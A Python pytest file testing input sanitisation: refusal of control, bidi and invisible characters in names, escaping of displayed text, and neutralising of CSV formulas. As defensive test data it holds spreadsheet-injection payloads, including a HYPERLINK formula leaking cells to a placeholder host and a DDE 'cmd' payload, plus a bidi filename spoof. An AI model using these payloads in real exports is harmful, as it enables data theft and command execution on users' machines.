"""Ids and names carry no control characters; text shown anywhere has them escaped (SPEC §11).

``limits.check_name`` refuses each class (C0, DEL, C1, bidi controls, separators, BOM, lone
surrogates, nothing visible) and every configuration model and classify input that holds a name
uses it, naming the field. ``limits.printable`` and ``safe_output`` escape what is shown; a CSV
cell never starts a live formula.
"""

from __future__ import annotations

import csv
import io
import json

import pytest

from workbench.core.errors import InputError
from workbench.core.limits import MAX_PARAMS, check_name, printable
from workbench.core.safe_output import csv_cell, json_text, write_csv

# One example of each class that a name must not hold: (label, character).
CONTROLS = [
    ("NUL", "\x00"), ("tab", "\t"), ("newline", "\n"), ("carriage return", "\r"), ("ESC", "\x1b"),
    ("DEL", "\x7f"), ("C1 NEL", "\x85"), ("C1 CSI", "\x9b"), ("bidi override RLO", "\u202e"),
    ("bidi embedding LRE", "\u202a"), ("bidi isolate RLI", "\u2067"), ("isolate end PDI", "\u2069"),
    ("right-to-left mark", "\u200f"), ("line separator", "\u2028"), ("BOM", "\ufeff"), ("lone surrogate", "\ud800"),
]
INVISIBLE = [("zero-width space", "\u200b"), ("zero-width joiners", "\u200d\u200c"), ("word joiner", "\u2060"),
             ("spaces", "   "), ("no-break space", "\u00a0"), ("Hangul filler", "\u3164"), ("braille blank", "\u2800")]
ACCEPTED = ["critic-2", "Agent A", "Ærøskøbing", "名前", "مرحبا", "👨\u200d💻 dev", "a\u200bb", "openai/gpt-4o-mini",
            "x" * 200]


@pytest.mark.parametrize("label, char", CONTROLS, ids=[c[0] for c in CONTROLS])
def test_each_control_class_is_refused_with_its_code_point_and_position(label, char):
    with pytest.raises(ValueError) as caught:
        check_name(f"ab{char}c")
    assert str(caught.value) == f"must not contain control characters (U+{ord(char):04X} at character 3)"


@pytest.mark.parametrize("label, value", INVISIBLE, ids=[c[0] for c in INVISIBLE])
def test_a_name_with_nothing_visible_is_refused(label, value):
    with pytest.raises(ValueError, match="must contain a visible character"):
        check_name(value)


@pytest.mark.parametrize("value", ACCEPTED)
def test_ordinary_names_in_any_script_pass_unchanged(value):
    assert check_name(value) == value


def test_printable_escapes_every_refused_character_and_keeps_the_rest():
    text = "ok é 名 \x1b[31mred\x1b[0m \u202egnp.exe \ufeff \x9b2J \u2028 \ud800 end"
    shown = printable(text)
    assert shown == "ok é 名 \\x1b[31mred\\x1b[0m \\u202egnp.exe \\ufeff \\x9b2J \\u2028 \\ud800 end"
    shown.encode("utf-8")  # a lone surrogate no longer stops a write to stdout
    assert printable("line 1\nline 2\tcell\r") == "line 1\\x0aline 2\\x09cell\\x0d"  # one line, always
    assert printable("line 1\nline 2\tcell\r\x1b", keep_lines=True) == "line 1\nline 2\tcell\\x0d\\x1b"


# ── CSV: no live formulas ───────────────────────────────────────────────────────────────────
FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "+cmd|' /C calc'!A0", "-1+2", "@SUM(A1)",
            "\t=1", "\r=1", "=", "-", "+", "@", "- item", "-5 apples", "+1 555 0100"]
NUMBERS = ["-5", "+3.2", "-1e5", "+.5", "-0.25", "-inf", "+NaN", "42", "3.0"]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_that_starts_like_a_formula_gets_a_leading_quote(text):
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("text", NUMBERS + ["plain", "'=already quoted", " =1", "", "a=b"])
def test_numbers_and_ordinary_text_stay_as_they_are(text):
    assert csv_cell(text) == text


def test_non_text_values_pass_through_for_the_csv_writer():
    assert [csv_cell(v) for v in (-5, -3.2, None, True)] == [-5, -3.2, None, True]


def test_write_csv_quotes_every_cell_and_the_header_and_reads_back_with_the_csv_module():
    out = io.StringIO()
    write_csv(out, ["kind", "=evil"], [["artifact", '=HYPERLINK("x","y")'], ["vote", -5], ["vote", "-5"]])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows == [["kind", "'=evil"], ["artifact", "'=HYPERLINK(\"x\",\"y\")"], ["vote", "-5"], ["vote", "-5"]]


# ── JSON: exact and terminal-safe ───────────────────────────────────────────────────────────
def test_json_text_escapes_controls_yet_parses_to_the_exact_value():
    value = {"text": "a \x1b[31m b \u202e c \x85 d \ufeff e \u2028 f é 名 \x7f", "n": -5}
    text = json_text(value)
    assert not any(ch in text for ch in "\x1b\u202e\x85\ufeff\u2028\x7f")
    assert "é 名" in text  # readable text stays readable (not ensure_ascii)
    assert json.loads(text) == value
    assert json_text({"s": "\ud800"}) == '{"s": "\\ud800"}'  # a lone surrogate: an escape, not a crash
    assert json.loads(json_text({"k": 1}, indent=2)) == {"k": 1}


# ── every model that holds a name refuses one with a control character, naming the field ──
def _run(**extra) -> dict:
    agents = lambda p: [{"id": f"{p}{i}", "provider": "sim"} for i in (1, 2)]
    return {"protocol": "rcp", "query": "Q?", "providers": {"sim": {"model": "sim"}},
            "clusters": [{"name": "advocate", "agents": agents("a")}, {"name": "critic", "agents": agents("c")}],
            **extra}


def _set(path: tuple, value):
    def make() -> dict:
        data = _run()
        target = data
        for key in path[:-1]:
            target = target[key]
        target[path[-1]] = value
        return data
    return make


BAD = "a\x1bb"
RUN_FIELDS = [
    (_set(("clusters", 0, "agents", 1, "id"), BAD), "clusters[0].agents[1].id"),
    (_set(("clusters", 1, "name"), BAD), "clusters[1].name"),
    (_set(("clusters", 0, "agents", 0, "role"), BAD), "clusters[0].agents[0].role"),
    (_set(("clusters", 0, "agents", 0, "provider"), BAD), "clusters[0].agents[0].provider"),
    (_set(("label",), BAD), "label"),
    (_set(("reference",), BAD), "reference"),
    (_set(("providers", "sim", "model"), BAD), "providers.sim.model"),
    (_set(("providers", "sim", "key_keyring"), BAD), "providers.sim.key_keyring"),
    (lambda: _run(providers={BAD: {"model": "sim"}}), "providers"),
    (_set(("clusters", 0, "agents", 0, "params"), {BAD: 0.5}), "clusters[0].agents[0].params"),
    (lambda: {**_run(protocol="cons", options=["yes", BAD])}, "options[1]"),
    (lambda: {**_run(protocol="cons", options=["yes", "no"], question_id=BAD)}, "question_id"),
    (lambda: {**_run(protocol="findings", findings=[{"id": BAD, "claim": "c"}])}, "findings[0].id"),
    (lambda: {**_run(echo={"project": BAD})}, "echo.project"),
    (lambda: {**_run(echo={"patterns": {BAD: "system_prompt"}})}, "echo.patterns"),
]


@pytest.mark.parametrize("make, field", RUN_FIELDS, ids=[f for _, f in RUN_FIELDS])
def test_every_name_of_a_run_configuration_is_checked(make, field):
    from workbench.core.runs.config import parse_run_config

    with pytest.raises(InputError) as caught:
        parse_run_config(make())
    assert caught.value.field.startswith(field), caught.value
    assert "must not contain control characters (U+001B at character 2)" in caught.value.message


def test_a_stored_configuration_from_before_the_rule_still_parses():
    from workbench.core.runs.config import parse_run_config

    cfg = parse_run_config(_set(("clusters", 0, "agents", 1, "id"), "a\nb")(), stored=True)
    assert cfg.clusters[0].agents[1].id == "a\nb"


def test_a_batch_mix_name_is_checked():
    from workbench.core.runs.batch import expand_batch

    with pytest.raises(InputError) as caught:
        expand_batch({**_run(), "batch": {"provider_mixes": [{"name": "mix\u202e", "providers": {}}]}})
    assert caught.value.field == "batch.provider_mixes[0].name"


def test_params_are_bounded():
    from workbench.core.runs.config import parse_run_config

    many = {f"k{i}": 1 for i in range(MAX_PARAMS + 1)}
    with pytest.raises(InputError, match="has too many items"):
        parse_run_config(_set(("clusters", 0, "agents", 0, "params"), many)())
    with pytest.raises(InputError) as caught:
        parse_run_config(_set(("clusters", 0, "agents", 0, "params"), {"stance": {"deep": [1]}})())
    assert caught.value.field.startswith("clusters[0].agents[0].params.stance")


def test_a_findings_context_is_bounded_in_size_and_depth():
    from workbench.core.runs.config import parse_run_config

    deep: object = "x"
    for _ in range(9):
        deep = {"k": deep}
    for context, words in (({"notes": "x" * 20_001}, "characters of JSON"), (deep, "nests too deeply")):
        with pytest.raises(InputError) as caught:
            parse_run_config(_run(protocol="findings", findings=[{"id": "f1", "claim": "c", "context": context}]))
        assert caught.value.field == "findings[0].context" and words in caught.value.message


@pytest.mark.parametrize("payload, field", [
    ({"clusters": [{"name": "c\n1", "agents": ["a"]}], "artifacts": []}, "clusters[0].name"),
    ({"clusters": [{"name": "c1", "agents": ["a\u202e"]}], "artifacts": []}, "clusters[0].agents[0]"),
    ({"clusters": [{"name": "c1", "agents": ["a", "b"]}], "artifacts": [{"id": "\ufeffx", "votes": {}}]},
     "artifacts[0].id"),
    ({"clusters": [{"name": "c1", "agents": ["a", "b"]}], "artifacts": [{"id": "x", "author": "\u200b"}]},
     "artifacts[0].author"),
])
def test_classify_rcp_input_names_are_checked(payload, field):
    from workbench.core.protocols.rcp.config import parse_input

    with pytest.raises(InputError) as caught:
        parse_input(payload)
    assert caught.value.field == field


def test_classify_cons_and_findings_names_are_checked():
    from workbench.core.protocols.cons.models import parse_question
    from workbench.core.protocols.findings.book import Finding

    question = {"questionId": "Q", "question": "?", "options": ["yes", "n\x00o"], "votes": []}
    with pytest.raises(Exception, match="U\\+0000"):
        parse_question(question)
    with pytest.raises(Exception, match="U\\+000A"):
        Finding.model_validate({"id": "f\n1", "claim": "c"})
    with pytest.raises(Exception, match="U\\+001B"):
        Finding.model_validate({"id": "f1", "claim": "c", "votes": [
            {"agent": "\x1b[2J", "vote_type": "confirm", "confidence": 1}]})


def test_an_arm_trace_role_with_a_control_character_is_refused_without_echoing_it():
    from workbench.core.protocols.arm.trace import check_run_types

    with pytest.raises(InputError) as caught:
        check_run_types({"r1": {"alpha\x1b[31m": {"claim": "c"}}})
    assert caught.value.field == "r1" and "\x1b" not in str(caught.value)
    assert "U+001B at character 6" in caught.value.message


def test_names_typed_in_the_window_are_checked(tmp_path):
    from workbench.core.project import panel_edits
    from workbench.core.project.store import Store

    store = Store.create(tmp_path / "p.rwb")
    try:
        with pytest.raises(InputError) as caught:
            panel_edits.create_cluster(store, "crit\u202eic")
        assert caught.value.field == "name" and "U+202E" in caught.value.message
    finally:
        store.close_connection()
